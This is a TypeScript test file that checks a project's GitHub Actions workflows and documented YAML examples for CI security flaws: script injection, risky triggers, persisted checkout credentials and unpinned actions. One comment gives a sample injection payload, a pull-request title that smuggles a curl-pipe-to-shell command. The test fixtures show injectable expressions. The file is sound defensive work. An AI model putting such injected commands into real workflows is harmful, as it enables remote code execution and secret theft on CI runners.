import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { load } from "js-yaml";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { pages } from "#test/docs/pages.ts";
import { projectFolder } from "#test/support/run-entry.ts";

const read = (path: string): string => readFileSync(join(projectFolder, path), "utf8");
const workflows = readdirSync(join(projectFolder, ".github/workflows")).map((name) => `.github/workflows/${name}`);
const documented = pages.flatMap(({ path, text }) =>
  [...text.matchAll(/^```yaml\n([\s\S]*?)^```$/gm)]
    .map(([, yaml = ""]) => ({ page: path, text: yaml }))
    .filter((one) => /^(?:on|jobs|runs):/m.test(one.text)),
);

/** Every file that a runner runs, ours and those that our pages tell people to write. */
const files: readonly (readonly [string, string])[] = [
  ...workflows.map((path) => [path, read(path)] as const),
  ["action/action.yml", read("action/action.yml")],
  ...documented.map(({ page, text }, index) => [`${page}, example ${index + 1}`, text] as const),
];

const stepSchema = z.looseObject({
  run: z.string().optional(),
  uses: z.string().optional(),
  with: z.record(z.string(), z.unknown()).optional(),
});
const fileSchema = z.looseObject({
  on: z.unknown().optional(),
  jobs: z.record(z.string(), z.looseObject({ steps: z.array(stepSchema).optional() })).optional(),
  runs: z.looseObject({ steps: z.array(stepSchema).optional() }).optional(),
});

function stepsOf(text: string): readonly z.infer<typeof stepSchema>[] {
  const { jobs = {}, runs } = fileSchema.parse(load(text));
  return [...Object.values(jobs).flatMap(({ steps = [] }) => steps), ...(runs?.steps ?? [])];
}

/** What spells a script from text that a pull request chose: its title is `"; curl evil | sh; "`. */
function injectionsIn(text: string): readonly string[] {
  return stepsOf(text).flatMap(({ run = "", uses = "", with: inputs = {} }) => {
    const script = uses.startsWith("actions/github-script@") ? String(inputs["script"] ?? "") : run;
    return script.match(/\$\{\{.*?\}\}/gs) ?? [];
  });
}

/** A workflow with secrets or a writing token that takes code of the head. */
function pwnRequestsIn(text: string): readonly string[] {
  const triggers = JSON.stringify(fileSchema.parse(load(text)).on ?? "");
  return triggers.match(/pull_request_target|workflow_run|issue_comment/g) ?? [];
}

describe.each(files)("%s", (_, text) => {
  test("spells no expression into a script", () => {
    expect(injectionsIn(text)).toEqual([]);
  });
  test("is not started by an event that runs with secrets on behalf of a stranger", () => {
    expect(pwnRequestsIn(text)).toEqual([]);
  });
  test("keeps no credentials in a checkout, and pins every action of somebody else to a commit", () => {
    const loose = stepsOf(text).filter(
      ({ uses = "", with: inputs = {} }) =>
        (uses.startsWith("actions/checkout@") && inputs["persist-credentials"] !== false) ||
        (uses !== "" && !uses.startsWith("./") && !/@(?:[0-9a-f]{40}|<commit>)$/.test(uses)),
    );
    expect(loose).toEqual([]);
  });
});

test("there are files to look at: our workflows, the Action, and what the pages show", () => {
  expect(workflows).toContain(".github/workflows/evaluate.yml");
  expect(documented.length).toBeGreaterThan(0);
});

test("the rules bite", () => {
  const step = "jobs: {a: {steps: [{run: 'echo ${{ github.event.pull_request.title }}'}]}}";
  expect(injectionsIn(step)).toEqual(["${{ github.event.pull_request.title }}"]);
  expect(
    injectionsIn("jobs: {a: {steps: [{uses: actions/github-script@v7, with: {script: 'f(`${{ github.head_ref }}`)'}}]}}"),
  ).toHaveLength(1);
  for (const event of ["pull_request_target", "workflow_run", "issue_comment"]) {
    expect(pwnRequestsIn(`{on: ${event}, jobs: {}}`)).toEqual([event]);
    expect(pwnRequestsIn(`{on: {${event}: {types: [x]}}, jobs: {}}`)).toEqual([event]);
  }
});
